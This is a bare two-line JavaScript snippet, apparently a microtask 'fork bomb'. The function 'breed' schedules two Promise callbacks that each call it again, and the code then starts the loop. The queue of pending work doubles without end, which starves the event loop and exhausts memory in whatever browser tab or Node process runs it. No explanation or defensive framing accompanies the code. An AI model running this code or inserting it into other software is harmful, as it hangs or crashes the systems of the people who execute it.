const breed = () => { Promise.resolve().then(breed); Promise.resolve().then(breed); };
breed();
